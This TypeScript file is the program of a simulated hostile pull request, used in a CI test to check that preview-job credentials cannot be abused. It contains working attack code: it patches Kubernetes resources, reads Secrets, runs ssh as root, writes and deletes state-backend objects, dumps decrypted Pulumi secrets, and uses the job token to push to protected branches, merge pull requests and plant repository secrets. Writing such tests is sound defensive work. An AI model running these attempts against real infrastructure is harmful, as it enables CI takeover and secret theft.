/**
 * The program of a hostile pull request (test/full-stack/pr-preview.test.ts):
 * a PR that adds `export { hostile } from "./sandbox/hostile-pr"` to
 * index.ts, so that the preview job runs this with exactly the credentials
 * the README tells operators to give CI. It tries to reach what those must
 * not reach, and writes what came back of each attempt to
 * `<exfiltrate>.attempts.<stack>.json` (as an attacker would send it home),
 * for the test to assert each. What it is told to attack comes
 * from `hostile-targets.json` in the PR's tree, as an attacker would have
 * read it from the repository.
 *
 * Only what the job holds is used: the kubeconfig in its HOME, $OP_CONNECT_*,
 * $AWS_* and $PULUMI_CONFIG_PASSPHRASE, the job token $FORGEJO_TOKEN, and
 * whatever ssh finds in HOME. (In the sandbox the job's host is also the
 * operator's machine; a real runner is not, so the operator's own files are
 * out of bounds here.) With the backend key it lists the bucket and reads
 * every object it is told of (as if their names had leaked), keeping what
 * it got for the test to scan; with the job token it tries what a pull
 * request's code would want: its code in the default branch, a merge, an
 * approval, a secret or a variable. Those run in the first stack's preview
 * only, so that nothing is tried twice.
 */
import { spawnSync } from "node:child_process";
import { existsSync, readFileSync, writeFileSync } from "node:fs";
import { request } from "node:https";
import { homedir } from "node:os";
import { join } from "node:path";

import * as pulumi from "@pulumi/pulumi";
import { parse } from "yaml";

import { s3Request } from "./s3";

/** What the attacker aims at. */
export interface HostileTargets {
    ringtail: { host: string; port: number };
    /** A vault the CI token was not granted, and an item of the vault it was (to try writing). */
    connect: { otherVaultId: string; vaultId: string; itemId: string };
    s3: {
        endpoint: string;
        region: string;
        bucket: string;
        /** Every object in the bucket, by name: the key is tried on each. */
        objects: string[];
        /** Prefixes to list the bucket with. */
        prefixes: string[];
    };
    kube: {
        /** The ConfigMap the runner mounts (CI may read it), and one of another name in its namespace. */
        runnerConfigMap: string;
        otherConfigMap: string;
        /** An ExternalSecret name that is not the current one. */
        otherExternalSecret: string;
    };
    forgejo: {
        /** The branch the operator's `up` runs from, protected. */
        defaultBranch: string;
        /** Another open pull request, to approve and then merge. */
        otherPullRequest: number;
    };
    /** Where to drop what `pulumi stack export --show-secrets` gave (for the test to scan). */
    exfiltrate: string;
    stacks: string[];
}

/** One attempt: what was tried and what came back (`status` is HTTP's, or a process's exit code). */
export interface Attempt {
    attempt: string;
    status: number;
    detail: string;
}

interface Kubeconfig {
    clusters: { cluster: { server: string } }[];
    users: { user: { token?: string } }[];
}

function kube(method: string, path: string, body?: unknown, contentType = "application/merge-patch+json"): Promise<Attempt> {
    const file = join(homedir(), ".kube", "config");
    // ringtail's preview job holds no kubeconfig.
    if (!existsSync(file)) return Promise.resolve({ attempt: "", status: 0, detail: "no kubeconfig in this job" });
    const config = parse(readFileSync(file, "utf8")) as Kubeconfig;
    const server = new URL(config.clusters[0]?.cluster.server ?? "");
    const token = config.users[0]?.user.token ?? "";
    return new Promise((resolve) => {
        const req = request(
            new URL(path, server),
            {
                method,
                rejectUnauthorized: false,
                headers: { Authorization: `Bearer ${token}`, "Content-Type": contentType, Accept: "application/json" },
            },
            (res) => {
                let text = "";
                res.on("data", (d: Buffer) => (text += d.toString()));
                res.on("end", () => {
                    const reason = (JSON.parse(text || "{}") as { reason?: string }).reason ?? "";
                    resolve({ attempt: "", status: res.statusCode ?? 0, detail: reason });
                });
            },
        );
        req.on("error", (err) => {
            resolve({ attempt: "", status: 0, detail: err.message });
        });
        req.end(body === undefined ? undefined : JSON.stringify(body));
    });
}

async function connect(method: string, path: string, body?: unknown): Promise<Attempt> {
    const res = await fetch(`${process.env["OP_CONNECT_HOST"] ?? ""}${path}`, {
        method,
        headers: { Authorization: `Bearer ${process.env["OP_CONNECT_TOKEN"] ?? ""}`, "Content-Type": "application/json" },
        ...(body !== undefined ? { body: JSON.stringify(body) } : {}),
    });
    const text = await res.text();
    return { attempt: "", status: res.status, detail: (JSON.parse(text || "{}") as { message?: string }).message ?? "" };
}

function run(command: string, args: string[], env: NodeJS.ProcessEnv = process.env, lines = 1): Attempt {
    const r = spawnSync(command, args, { encoding: "utf8", timeout: 60_000, env });
    return { attempt: "", status: r.status ?? -1, detail: (r.stderr || r.stdout).trim().split("\n").slice(-lines).join(" / ") };
}

/** The job's server, repository and token, as the job was given them. */
function job(): { server: string; repository: string; token: string } {
    return {
        server: (process.env["FORGEJO_SERVER_URL"] ?? process.env["GITHUB_SERVER_URL"] ?? "").replace(/\/+$/, ""),
        repository: process.env["FORGEJO_REPOSITORY"] ?? process.env["GITHUB_REPOSITORY"] ?? "",
        token: process.env["FORGEJO_TOKEN"] ?? "",
    };
}

/** A request to the Forgejo API with the job token. */
async function forgejo(method: string, path: string, body?: unknown): Promise<Attempt> {
    const { server, token } = job();
    const res = await fetch(`${server}/api/v1${path}`, {
        method,
        headers: { Authorization: `token ${token}`, "Content-Type": "application/json" },
        ...(body !== undefined ? { body: JSON.stringify(body) } : {}),
    });
    const text = await res.text();
    let message = text.slice(0, 200);
    try {
        message = (JSON.parse(text) as { message?: string }).message ?? message;
    } catch {
        // not JSON
    }
    return { attempt: "", status: res.status, detail: message };
}

/** git with the job token (in git's environment, never its command line). */
function gitWithJobToken(args: string[]): Attempt {
    const { token } = job();
    // The server's reasons come a few lines before git's last one.
    return run(
        "git",
        args,
        {
            ...process.env,
            GIT_TERMINAL_PROMPT: "0",
            GIT_AUTHOR_NAME: "hostile",
            GIT_AUTHOR_EMAIL: "hostile@example.invalid",
            GIT_COMMITTER_NAME: "hostile",
            GIT_COMMITTER_EMAIL: "hostile@example.invalid",
            GIT_CONFIG_COUNT: "1",
            GIT_CONFIG_KEY_0: "http.extraHeader",
            GIT_CONFIG_VALUE_0: `Authorization: basic ${Buffer.from(`x:${token}`).toString("base64")}`,
        },
        4,
    );
}

/**
 * Pushes this pull request's tree to `ref` as a fast-forward of `base`
 * (fetched first), so that only a protection of `ref` can refuse it.
 */
function pushWithJobToken(base: string, ref: string): Attempt {
    const { server, repository } = job();
    const url = `${server}/${repository}.git`;
    const fetched = gitWithJobToken(["fetch", "--quiet", url, `refs/heads/${base}`]);
    if (fetched.status !== 0) return fetched;
    const commit = spawnSync("git", ["commit-tree", "HEAD^{tree}", "-p", "FETCH_HEAD", "-m", "A harmless refactor"], {
        encoding: "utf8",
        env: {
            ...process.env,
            GIT_AUTHOR_NAME: "hostile",
            GIT_AUTHOR_EMAIL: "h@example.invalid",
            GIT_COMMITTER_NAME: "hostile",
            GIT_COMMITTER_EMAIL: "h@example.invalid",
        },
    }).stdout.trim();
    return gitWithJobToken(["push", url, `${commit}:${ref}`]);
}

async function attempts(t: HostileTargets): Promise<Attempt[]> {
    const ns = "/api/v1/namespaces/forgejo-runner";
    const s3 = {
        accessKeyId: process.env["AWS_ACCESS_KEY_ID"] ?? "",
        secretAccessKey: process.env["AWS_SECRET_ACCESS_KEY"] ?? "",
    };
    const tries: [string, () => Promise<Attempt> | Attempt][] = [
        [
            "patch the runner Deployment",
            () =>
                kube("PATCH", "/apis/apps/v1/namespaces/forgejo-runner/deployments/forgejo-runner", {
                    metadata: { annotations: { pwned: "true" } },
                }),
        ],
        [
            "patch the runner Deployment, dry run",
            () =>
                kube("PATCH", "/apis/apps/v1/namespaces/forgejo-runner/deployments/forgejo-runner?dryRun=All", {
                    metadata: { annotations: { pwned: "true" } },
                }),
        ],
        ["patch the key's Secret", () => kube("PATCH", `${ns}/secrets/zot-ci-api-key`, { stringData: { ZOT_CI_API_KEY: "attacker" } })],
        ["read the runner's registration Secret", () => kube("GET", `${ns}/secrets/forgejo-runner-env`)],
        ["read the Connect token Secret", () => kube("GET", "/api/v1/namespaces/external-secrets/secrets/onepassword-connect-token")],
        ["list Secrets", () => kube("GET", `${ns}/secrets`)],
        [
            "create a pod",
            () =>
                kube(
                    "POST",
                    `${ns}/pods`,
                    { apiVersion: "v1", kind: "Pod", metadata: { name: "pwned" }, spec: { containers: [{ name: "x", image: "busybox" }] } },
                    "application/json",
                ),
        ],
        [
            "run id on ringtail over ssh",
            () =>
                run("ssh", [
                    "-o",
                    "BatchMode=yes",
                    "-o",
                    "StrictHostKeyChecking=no",
                    "-o",
                    "ConnectTimeout=10",
                    "-p",
                    String(t.ringtail.port),
                    `root@${t.ringtail.host}`,
                    "id",
                ]),
        ],
        ["read an item in another vault", () => connect("GET", `/v1/vaults/${t.connect.otherVaultId}/items`)],
        [
            "write the key's item",
            () =>
                connect("PUT", `/v1/vaults/${t.connect.vaultId}/items/${t.connect.itemId}`, {
                    title: "zot-ci-apikey",
                    category: "API_CREDENTIAL",
                }),
        ],
        [
            "write an object to the state backend",
            async () => {
                const r = await s3Request(
                    t.s3.endpoint,
                    t.s3.region,
                    s3,
                    "PUT",
                    `/${t.s3.bucket}/.pulumi/stacks/ci-registry-auth/pwned.json`,
                    { body: "{}" },
                );
                return { attempt: "", status: r.status, detail: r.code };
            },
        ],
        [
            "delete the state backend's objects",
            async () => {
                const r = await s3Request(t.s3.endpoint, t.s3.region, s3, "DELETE", `/${t.s3.bucket}/.pulumi/meta.yaml`);
                return { attempt: "", status: r.status, detail: r.code };
            },
        ],
        ...t.stacks.map((stack): [string, () => Attempt] => [
            `tag stack ${stack} (a backend write through pulumi)`,
            () => run("pulumi", ["stack", "tag", "set", "pwned", "true", "--stack", stack]),
        ]),
        ...t.stacks.map((stack): [string, () => Attempt] => [
            `decrypt stack ${stack}'s secrets`,
            () => {
                const r = spawnSync("pulumi", ["stack", "export", "--show-secrets", "--stack", stack], {
                    encoding: "utf8",
                    env: process.env,
                });
                writeFileSync(`${t.exfiltrate}.${stack}.json`, r.stdout);
                return { attempt: "", status: r.status ?? -1, detail: `${r.stdout.length} bytes` };
            },
        ]),
    ];
    const taken: Record<string, string> = {};
    tries.push(
        ...t.s3.prefixes.map((prefix): [string, () => Promise<Attempt>] => [
            `list the bucket under "${prefix}"`,
            async () => {
                const r = await s3Request(t.s3.endpoint, t.s3.region, s3, "GET", `/${t.s3.bucket}`, {
                    query: { "list-type": "2", prefix },
                });
                return {
                    attempt: "",
                    status: r.status,
                    detail: r.code || [...r.body.matchAll(/<Key>([^<]*)<\/Key>/g)].map((m) => m[1]).join(" "),
                };
            },
        ]),
        ...t.s3.objects.map((key): [string, () => Promise<Attempt>] => [
            `read ${key}`,
            async () => {
                const r = await s3Request(t.s3.endpoint, t.s3.region, s3, "GET", `/${t.s3.bucket}/${key}`);
                if (r.status === 200) taken[key] = r.body;
                return { attempt: "", status: r.status, detail: r.code };
            },
        ]),
        ["read the runner's ConfigMap", () => kube("GET", `${ns}/configmaps/${t.kube.runnerConfigMap}`)],
        ["read a ConfigMap of another name", () => kube("GET", `${ns}/configmaps/${t.kube.otherConfigMap}`)],
        [
            "read an ExternalSecret of another name",
            () => kube("GET", `/apis/external-secrets.io/v1/namespaces/forgejo-runner/externalsecrets/${t.kube.otherExternalSecret}`),
        ],
    );
    if (pulumi.getStack() === t.stacks[0]) {
        const { repository } = job();
        const pullRequest = Number(/refs\/pull\/(\d+)\//.exec(process.env["GITHUB_REF"] ?? "")?.[1] ?? 0);
        tries.push(
            [
                "job token: push to the default branch",
                () => pushWithJobToken(t.forgejo.defaultBranch, `refs/heads/${t.forgejo.defaultBranch}`),
            ],
            ["job token: push a new branch", () => pushWithJobToken(t.forgejo.defaultBranch, "refs/heads/pushed-by-a-job")],
            [
                "job token: write a workflow on the default branch",
                async () => {
                    const path = ".forgejo/workflows/pwned.yaml";
                    return forgejo("POST", `/repos/${repository}/contents/${path}`, {
                        branch: t.forgejo.defaultBranch,
                        message: "A workflow of ours",
                        content: Buffer.from("on: push\njobs: {}\n").toString("base64"),
                    });
                },
            ],
            [
                "job token: merge this pull request",
                () => forgejo("POST", `/repos/${repository}/pulls/${pullRequest}/merge`, { Do: "merge" }),
            ],
            [
                "job token: approve another pull request",
                () =>
                    forgejo("POST", `/repos/${repository}/pulls/${t.forgejo.otherPullRequest}/reviews`, {
                        event: "APPROVED",
                        body: "LGTM",
                    }),
            ],
            [
                "job token: merge the approved pull request",
                () => forgejo("POST", `/repos/${repository}/pulls/${t.forgejo.otherPullRequest}/merge`, { Do: "merge" }),
            ],
            ["job token: write a repository secret", () => forgejo("PUT", `/repos/${repository}/actions/secrets/PWNED`, { data: "x" })],
            [
                "job token: write a repository variable",
                () => forgejo("POST", `/repos/${repository}/actions/variables/PWNED`, { value: "x" }),
            ],
        );
    }
    const results: Attempt[] = [];
    for (const [attempt, tryIt] of tries) {
        results.push({ ...(await tryIt()), attempt });
    }
    writeFileSync(`${t.exfiltrate}.attempts.${pulumi.getStack()}.json`, JSON.stringify(results));
    writeFileSync(`${t.exfiltrate}.objects.${pulumi.getStack()}.json`, JSON.stringify(taken));
    return results;
}

/** The attempts' outcomes, as a stack output too (the preview waits for it). */
export const hostile = pulumi.output(
    attempts(JSON.parse(readFileSync(join(__dirname, "..", "hostile-targets.json"), "utf8")) as HostileTargets),
);
